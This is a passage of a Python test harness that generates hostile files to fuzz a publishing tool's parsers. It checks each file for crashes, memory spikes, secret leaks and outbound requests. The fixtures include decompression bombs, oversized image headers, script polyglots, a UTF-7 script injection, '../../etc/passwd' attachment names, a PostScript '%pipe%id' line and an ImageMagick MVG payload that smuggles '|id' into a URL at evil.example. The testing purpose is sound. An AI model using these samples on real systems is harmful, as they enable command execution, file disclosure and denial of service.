    "templates in templates": "<template>" * 10_000,
    "SVG in MathML": "<svg><math>" * 5000,
    "entities": "&amp;lt" * MANY,
    "table of 1,000 columns": "<table>" + ("<tr>" + "<td>x" * 1000) * 30,
    "table with huge spans": '<table><tr><td colspan="999999999" rowspan="999999999">x</table>' * 50,
    "quotes in Markdown": ">" * DEEP + " x",
    "lists in Markdown": "- " * DEEP + "x",
    "brackets": "[" * MANY + "x" + "]" * MANY,
    "brackets of links": "[a](" * 20_000,
    "links in links": "[" * 5000 + "x" + "](y)" * 5000,
    "pictures in pictures": "![" * 20_000,
    "stars": "*a " * 50_000,
    "stars and underscores": "*_**__" * 20_000,
    "backticks": "".join("`" * each + " " for each in range(1, 800)),
    "definitions": "[a]: /b\n" * 20_000 + "[a]" * 20_000,
    "definitions inside each other": "".join(f"[{each}]: <{'a' * 100}>\n" for each in range(5000)),
    "notes": "".join(f"[^{each}]\n\n[^{each}]: x\n\n" for each in range(3000)),
    "notes in notes": "".join(f"[^{each}]: [^{each + 1}]\n\n" for each in range(3000)) + "[^0]",
    "fences": "```\n" * 20_001,
    "fences that are huge": "`" * MANY + "\n" + "a\n" * 1000,
    "tables": "|a" * 2000 + "|\n" + "|-" * 2000 + "|\n" + "|x|\n" * 200,
    "headings": "#" * MANY + " x",
    "underlines": "x\n" + "=" * MANY,
    "line ends": "\r\n" * 500_000,
    "white space": " " * 5_000_000 + "x",
    "white space at each end": ("x" + " " * 1000 + "\n") * 2000,
    "one word": "a" * 5_000_000,
    "marks of order": "\ufeff" * MANY,
    "accents": "a" + "\u0301" * MANY,
    "marks of direction": "\u202e\u2066" * MANY,
    "one line of links": "<http://a.example> " * 20_000,
    "addresses": "http://" * 50_000,
    "mail addresses": "a@" * 50_000,
    "mail addresses that are long": "a" * 50_000 + "@" + "b." * 20_000,
    "dates": "24 October 2018 " * 5000,
    "by by by": "By " * 50_000,
    "names": "By " + "Ann Bee, " * 10_000,
    "front matters": "---\n" * 50_000,
    "front matters that are not closed": "---\ntitle: x\n" * 20_000,
    "shortcodes": "[caption " * 20_000,
    "blocks of WordPress": "<!-- wp:paragraph -->" * 20_000,
    "blocks of WordPress with JSON": '<!-- wp:a {"a":' + "[" * DEEP + " -->",
    "includes": "{% include x %}{{ x }}" * 20_000,
    "formulas": "$$x$$ $x$ " * 20_000,
    "underscores": "_" * MANY,
    "colons": ":::" * MANY,
    "dashes": "-" * MANY,
    "dots": ". " * MANY,
    "hashes of tags": "#a" * 50_000,
    "form feeds": "\f" * MANY,
    "vertical tabs and nulls": "\v\0" * MANY,
}
_TEXT_WAYS = ("markdown", "clipping", "webpage", "movabletype", "detected")


def _mail(head: str, body: str = "x") -> bytes:
    return f"From: a@lantern.example\nSubject: Tide\nDate: Wed, 24 Oct 2018 08:00:00 +0100\n{head}\n{body}".encode(
        "utf-8", "surrogateescape"
    )


def _multipart(count: int) -> bytes:
    head = 'Content-Type: multipart/mixed; boundary="b0"\n'
    inner = "".join(f'--b{each}\nContent-Type: multipart/mixed; boundary="b{each + 1}"\n\n' for each in range(count))
    return _mail(head, inner)


_MAILS: Mapping[str, Callable[[], bytes]] = {
    "2,000 parts inside each other": lambda: _multipart(2000),
    "50,000 parts": lambda: _mail('Content-Type: multipart/mixed; boundary="b"\n', "--b\n\nx\n" * 50_000),
    "parts of no boundary": lambda: _mail("Content-Type: multipart/mixed\n", "x"),
    "boundary that is empty": lambda: _mail('Content-Type: multipart/mixed; boundary=""\n', "--\n--\n--" * 1000),
    "boundary of 100,000 characters": lambda: _mail(f'Content-Type: multipart/mixed; boundary="{"b" * MANY}"\n', f"--{'b' * MANY}\n\nx"),
    "mails in mails": lambda: _mail("", "").replace(b"\n\n", b"\nContent-Type: message/rfc822\n\n") * 500,
    "50,000 fields": lambda: _mail("X-A: b\n" * 50_000),
    "huge field": lambda: _mail(f"X-A: {'a' * 2_000_000}\n"),
    "folded field": lambda: _mail("X-A: a\n" + " a\n" * 50_000),
    "words of another encoding": lambda: _mail(f"Comments: {'=?utf-8?q?a?= ' * 20_000}\n").replace(b"Tide", b"=?utf-8?q?a?= " * 5000),
    "words of no encoding": lambda: _mail("").replace(b"Tide", b"=?x-none?b?!!!!?= =?utf-8?b?/////w==?="),
    "people": lambda: _mail("To: " + "a b <a@b.example>, " * 10_000 + "\n").replace(b"a@lantern.example", b"(" * 5000),
    "comments inside each other": lambda: _mail("").replace(b"a@lantern.example", b"(" * 20_000),
    "continued parameters": lambda: _mail("Content-Type: text/plain; " + "; ".join(f"a*{each}*=x" for each in range(5000)) + "\n"),
    "charset that does not exist": lambda: _mail("Content-Type: text/html; charset=x-none\n", "<p>x"),
    "charset that unpacks": lambda: _mail("Content-Type: text/html; charset=zlib\n", "<p>x"),
    "charset of Python": lambda: _mail("Content-Type: text/html; charset=unicode_escape\n", "\\ud800\\x00<p>x"),
    "UTF-7": lambda: _mail("Content-Type: text/html; charset=utf-7\n", "+ADw-script+AD4-alert(1)"),
    "base64 that is none": lambda: _mail("Content-Transfer-Encoding: base64\n", "!" * MANY),
    "quoted-printable that is none": lambda: _mail("Content-Transfer-Encoding: quoted-printable\n", "=" * MANY),
    "uuencode": lambda: _mail("Content-Transfer-Encoding: x-uuencode\n", "begin 644 ../../x\n" + "M" * MANY),
    "encoding of Python": lambda: _mail("Content-Transfer-Encoding: zip\n", "x" * 1000),
    "date that is none": lambda: _mail("").replace(b"Wed, 24 Oct 2018 08:00:00 +0100", b"Wed, 99 Zzz 99999 99:99:99 +9999"),
    "date far away": lambda: _mail("").replace(b"24 Oct 2018", b"24 Oct 999999999999"),
    "names out of the folder": lambda: papers.mail("<p>x</p>", attached={"../../etc/passwd": b"x", "C:\\x": b"x", "a\x00b": b"x"}),
    "pictures in a circle": lambda: papers.mail('<img src="cid:a"><img src="cid:b">' * 5000, inside={"a": b"x"}),
}  # fmt: skip


def _texts() -> Iterator[File]:
    for name, text in _TEXTS.items():
        body = text.encode("utf-8", "surrogatepass")
        for way in _TEXT_WAYS:
            yield File(family="texts", name=f"{way}: {name}", make=partial(_as_text, way, body), way=way)
        yield File(family="texts", name=f"rss: {name}", make=partial(_in_feed, text), way="rss")
    for name, make in _MAILS.items():
        yield File(family="texts", name=f"mail: {name}", make=make, way="mail")


def _as_text(way: str, body: bytes) -> bytes:
    heads = {
        "webpage": b"<!DOCTYPE html><title>x</title><article><h1>Tide</h1><p>It sails.</p>",
        "movabletype": b"AUTHOR: A\nTITLE: Tide\nDATE: 11/01/2026 08:00:00 AM\n-----\nBODY:\n",
    }
    return heads.get(way, b"") + body


def _in_feed(text: str) -> bytes:
    said = text.replace("&", "&amp;").replace("<", "&lt;").replace("\0", "").replace("\v", "").replace("\f", "")
    return _XML["rss"].replace(_WORDS, said.encode())


# -- pictures -------------------------------------------------------------------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, data: bytes = b"", *more: bytes, depth: int = 8, colour: int = 2) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + _chunk(b"IDAT", data or zlib.compress(bytes(1000))) + _chunk(b"IEND", b"")


def _picture(kind: str, size: tuple[int, int] = (60, 40), **options: object) -> bytes:
    out = BytesIO()
    Pillow.effect_noise(size, 60).convert("RGB").save(out, kind, **options)
    return out.getvalue()


def _half(kind: str) -> bytes:
    body = _picture(kind)
    return body[: len(body) // 2]


def _beginning(kind: str) -> bytes:
    return _picture(kind)[:20]


def _polyglot(kind: str, other: bytes) -> bytes:
    return _picture(kind) + other


def _sized(kind: str) -> bytes:
    """A picture that says that it has 60,000 × 60,000 pixels."""
    body = bytearray(_picture(kind))
    if kind == "JPEG":
        at = body.index(b"\xff\xc0")
        struct.pack_into(">HH", body, at + 5, 60_000, 60_000)
    elif kind == "GIF":
        struct.pack_into("<HH", body, 6, 60_000, 60_000)
    elif kind == "WEBP":
        at = body.index(b"\x9d\x01\x2a")
        struct.pack_into("<HH", body, at + 3, 16_383, 16_383)
    elif kind == "AVIF":
        at = body.index(b"ispe")
        struct.pack_into(">II", body, at + 8, 60_000, 60_000)
    elif kind == "BMP":
        struct.pack_into("<ii", body, 18, 60_000, 60_000)
    return bytes(body)


def _tiff(*entries: tuple[int, int, int, int], following: int = 0) -> bytes:
    rows = b"".join(struct.pack("<HHII", *each) for each in entries)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(entries)) + rows + struct.pack("<I", following)


def _zeros(size: int) -> bytes:
    """Return so many null characters, packed: not more than a million of them are ever there."""
    packer = zlib.compressobj(9)
    return b"".join((*(packer.compress(bytes(1_000_000)) for _ in range(size // 1_000_000)), packer.flush()))


_KINDS = ("JPEG", "PNG", "GIF", "WEBP", "AVIF", "BMP", "TIFF")
_PICTURES: Mapping[str, Callable[[], bytes]] = {
    **{f"{kind} of 60,000 × 60,000": partial(_sized, kind) for kind in ("JPEG", "GIF", "WEBP", "AVIF", "BMP")},
    **{f"half of a {kind}": partial(_half, kind) for kind in _KINDS},
    **{f"the first 20 bytes of a {kind}": partial(_beginning, kind) for kind in _KINDS},
    **{f"{kind} with a page at its end": partial(_polyglot, kind, b"<script>__ran()</script>") for kind in _KINDS},
    **{f"{kind} with an archive at its end": partial(_polyglot, kind, _zipped([("a.html", b"x")])) for kind in _KINDS},
    "PNG of 60,000 × 60,000": lambda: _png(60_000, 60_000),
    "PNG of 2 billion × 2 billion": lambda: _png(0x7FFFFFFF, 0x7FFFFFFF),
    "PNG without pixels": lambda: _png(0, 0),
    "PNG whose rows unpack to 500 MB": lambda: _png(100, 100, _zeros(500_000_000)),
    "PNG whose profile unpacks to 500 MB": lambda: _png(9, 9, b"", _chunk(b"iCCP", b"a\0\0" + _zeros(500_000_000))),
    "PNG whose text unpacks to 500 MB": lambda: _png(9, 9, b"", _chunk(b"zTXt", b"a\0\0" + _zeros(500_000_000))),
    "PNG with 300,000 chunks": lambda: _png(9, 9, b"", _chunk(b"tEXt", b"a\0b") * 300_000),
    "PNG with checksums that are wrong": lambda: _picture("PNG").replace(b"IDAT", b"IDAT", 1)[:-20] + bytes(20),
    "PNG of a depth that there is not": lambda: _png(9, 9, depth=3, colour=7),
    "PNG with a palette of nothing": lambda: _png(9, 9, b"", _chunk(b"PLTE", b""), colour=3),
    "PNG with a chunk of 4 GB": lambda: _picture("PNG")[:33] + b"\xff\xff\xff\xffIDAT" + bytes(100),
    "PNG of 100,000 pictures": lambda: _png(9, 9, b"", _chunk(b"acTL", struct.pack(">II", 100_000, 0)) + _chunk(b"fcTL", bytes(26)) * 100_000),
    "JPEG with 65,535 segments": lambda: b"\xff\xd8" + b"\xff\xe1\0\x02" * 65_535 + _picture("JPEG")[2:],
    "JPEG with a thumbnail of itself": lambda: _picture("JPEG", exif=b"Exif\0\0" + _tiff((0x0201, 4, 1, 8), (0x0202, 4, 1, 0xFFFFFFFF))),
    "JPEG whose Exif is in a circle": lambda: _picture("JPEG", exif=b"Exif\0\0" + _tiff((0x8769, 4, 1, 8), following=8)),
    "JPEG whose Exif points beyond": lambda: _picture("JPEG", exif=b"Exif\0\0" + _tiff((0x8825, 4, 1, 0xFFFFFFF0), (0x0112, 3, 0xFFFFFFFF, 1))),
    "JPEG of 1,000 scans": lambda: _scans(1000),
    "JPEG with a frame in a frame": lambda: _picture("JPEG").replace(b"\xff\xda", b"\xff\xc0\0\x0b\x08\xff\xff\xff\xff\1\1\x11\0\xff\xda", 1),
    "JPEG in CMYK with a wrong profile": lambda: _profiled(b"x" * 200_000),
    "GIF of 5,000 pictures": lambda: _picture("GIF")[:-1] + (b"!\xf9\4\0\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\2\2D\1\0" * 5000) + b";",
    "GIF of pictures larger than itself": lambda: _picture("GIF")[:-1] + b",\0\0\0\0\xff\xff\xff\xff\0\2\2D\1\0" * 100 + b";",
    "GIF without an end": lambda: _picture("GIF")[:-1] + b"!\xfe\xff" + bytes(100),
    "TIFF in a circle": lambda: _tiff((256, 4, 1, 9), (257, 4, 1, 9), following=8),
    "TIFF with a strip of 4 GB": lambda: _tiff((256, 4, 1, 60_000), (257, 4, 1, 60_000), (273, 4, 1, 8), (279, 4, 1, 0xFFFFFFFF), (262, 3, 1, 1)),
    "TIFF with 4 billion values": lambda: _tiff((256, 4, 0xFFFFFFFF, 8)),
    "AVIF of boxes inside each other": lambda: b"\0\0\0\x14ftypavif\0\0\0\0mif1" + b"".join(struct.pack(">I", 80_000 - 8 * each) + b"moov" for each in range(9_000)),
    "AVIF with a box of nothing": lambda: b"\0\0\0\x14ftypavif\0\0\0\0mif1" + b"\0\0\0\0meta",
    "AVIF with a box of 2^63 bytes": lambda: b"\0\0\0\x14ftypavif\0\0\0\0mif1\0\0\0\1meta" + b"\x7f" * 8,
    "AVIF with a table of 4 billion items": lambda: b"\0\0\0\x14ftypavif\0\0\0\0mif1" + _box(b"meta", bytes(4) + _box(b"iinf", bytes(6)) + _box(b"iloc", b"\2\0\0\0\x44\0" + b"\xff" * 40)),
    "WebP with a chunk of 4 GB": lambda: b"RIFF\xff\xff\xff\xffWEBPVP8 \xff\xff\xff\xff",
    "WebP that moves, of nothing": lambda: b"RIFF\x30\0\0\0WEBPVP8X\x0a\0\0\0\2\0\0\0\xff\xff\xff\xff\xff\xffANIM\6\0\0\0\0\0\0\0\0\0",
    "ICO": lambda: _picture("ICO", (32, 32)),
    "PDF that is a JPEG": lambda: b"%PDF-1.4\n" + _picture("JPEG"),
    "PostScript": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (w) file\n",
    "page that says it is a GIF": lambda: b"GIF89a=1;/*" + b"<script>__ran()</script>*/",
    "MVG of ImageMagick": lambda: b"push graphic-context\nviewbox 0 0 9 9\nfill 'url(https://evil.example/\"|id \")'\npop graphic-context",
    "XPM": lambda: b'/* XPM */\nstatic char *a[] = {"9999999 9999999 1 1", "a c #000000"};',
    "nothing": lambda: b"",
    "nulls": lambda: bytes(1_000_000),
}  # fmt: skip


def _box(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content) + 8) + kind + content


def _scans(count: int) -> bytes:
    """A progressive JPEG that asks to be gone through again and again."""
    body = _picture("JPEG", (400, 400), progressive=True)
    at = body.rindex(b"\xff\xda")
    return body[:at] + body[at:-2] * count + body[-2:]


def _profiled(profile: bytes) -> bytes:
    out = BytesIO()
    Pillow.new("CMYK", (20, 20)).save(out, "JPEG", icc_profile=profile)
    return out.getvalue()


def _pictures() -> Iterator[File]:
    for name, make in _PICTURES.items():
        yield File(family="pictures", name=f"picture: {name}", make=make, way="picture")


# -- trying -----------------------------------------------------------------------------------------------------------------------


@cache
def files() -> tuple[File, ...]:
    """Return all of them; no two have the same name."""
    every = (*_xml(), *_zips(), *_jsons(), *_headers(), *_texts(), *_pictures())
    found = tuple(replace(each, name=f"{each.family}, {each.name}") for each in every)
    assert len({each.name for each in found}) == len(found)
    return found


def attempt(way: str, body: bytes) -> tuple[str, str]:
    """Return what became of bytes, and what was read of them, as text; raise whatever must not be."""
    return _WAYS.get(way, _as_format)(way, body)


def _as_format(way: str, body: bytes) -> tuple[str, str]:
    module = formats.get(way)
    checked = _checked(module, body)
    assert all(isinstance(each, Problem) and each.message for each in checked)
    if isinstance(module, Fixer):
        assert isinstance(module.fix(body, checked), bytes)
    try:
        reading = module.read(body, Context(path="a.md"))
    except PublisherError as error:
        return f"refused {error.problems[0].code}", str(error)
    said = schema.to_text(schema.dump(reading.publication))
    return f"read, {len(reading.publication.articles)} articles, {len(reading.problems) + len(checked)} problems", said


def _checked(module: Format, body: bytes) -> list[Problem]:
    """Return what is wrong with bytes, for every device and shop."""
    if isinstance(module, Targeted):
        return module.check(body, module.TARGETS)
    return module.check(body) if isinstance(module, Checker) else []


def _detected(_: str, body: bytes) -> tuple[str, str]:
    try:
        return _as_format(formats.detect(body).NAME, body)
    except PublisherError as error:
        return f"refused {error.problems[0].code}", str(error)


def _as_settings(_: str, body: bytes) -> tuple[str, str]:
    try:
        return f"read, {len(settings.read(body)[1])} problems", ""
    except PublisherError as error:
        return f"refused {error.problems[0].code}", str(error)


def _as_picture(_: str, body: bytes) -> tuple[str, str]:
    """All that is done with pictures: measured, published, put into books, made smaller."""
    facts = measure.measure(body, "a.png")
    found = [str(facts.encoding_format)]
    for work in (disclosure.published, pictures.picture_from, encoder.encode):
        try:
            work(body)
            found.append("taken")
        except disclosure.Unfit:
            found.append("refused")
    return " ".join(found), ""


def _as_drawing(_: str, body: bytes) -> tuple[str, str]:
    """All that is done with drawings; one that is published has nothing left that says what something else says.

    It is called as drawings are: bytes that are none, under another name, are no drawing to anybody.
    """
    said, text = [], ""
    works: tuple[Callable[[bytes], bytes], ...] = (partial(disclosure.published, name="a.svg"), lambda body: drawings.drawing(body).data)
    for work in works:
        try:
            made = work(body)
            said.append("taken")
        except disclosure.Unfit:
            said.append("refused")
            continue
        plain = made.replace(b"\0", b"").lower()
        assert b"<!entity" not in plain, "an entity is published"
        assert b"<!attlist" not in plain, "a declared attribute is published"
        text += made.decode("utf-8", "replace")
    return " ".join(said), text


_WAYS: Mapping[str, Callable[[str, bytes], tuple[str, str]]] = {
    "detected": _detected,
    "settings": _as_settings,
    "picture": _as_picture,
    "svg": _as_drawing,
}


def tried(wanted: Iterable[str], folder: Path) -> list[Outcome]:
    """Try files by their names, all in one process that may have `ROOM` bytes; one that ends it is told, and the others go on."""
    left, found = list(wanted), list[Outcome]()
    (folder / "secret.txt").write_text(SECRET)
    while left:
        done = subprocess.run(
            [sys.executable, "-m", "tests.hostile_files", str(folder / "secret.txt")], input="\n".join(left), capture_output=True, text=True
        )
        found += (Outcome(**json.loads(each)) for each in done.stdout.splitlines())
        left = left[len(done.stdout.splitlines()) :]
        if left:
            fault = f"ended with {done.returncode}: {done.stderr.strip()[-300:]}"
            found.append(Outcome(name=left.pop(0), said="", fault=fault))
    return found


def _main(secret: Path) -> None:
    known = {each.name: each for each in files()}
    resource.setrlimit(resource.RLIMIT_DATA, (ROOM, ROOM))
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    with socket.create_server(("127.0.0.1", 0)) as server:
        address = f"http://127.0.0.1:{server.getsockname()[1]}/x"
        for name in sys.stdin.read().splitlines():
            body = known[name].make().replace(PLACE.encode(), str(secret).encode()).replace(ASKED.encode(), address.encode())
            print(json.dumps(_outcome(known[name], body, server)), flush=True)


def _most() -> int:
    """Return the most bytes that this process has had: of a fork at first those of its parent."""
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024


def _outcome(file: File, body: bytes, server: socket.socket) -> dict[str, object]:
    said, fault, started, before = "", "", process_time(), _most()
    try:
        said, text = attempt(file.way, body)
        fault = "it says what another file does" if SECRET in text else ""
    except BaseException as error:  # whatever it is, it must not be
        fault = f"{type(error).__name__}: {str(error)[:200]}"
    if select.select([server], [], [], 0)[0]:
        server.accept()[0].close()
        fault = fault or "it asked a server"
    return {
        "name": file.name,
        "said": said,
        "fault": fault,
        "peak": _most() - before,
        "seconds": process_time() - started,
    }


if __name__ == "__main__":
    _main(Path(sys.argv[1]))
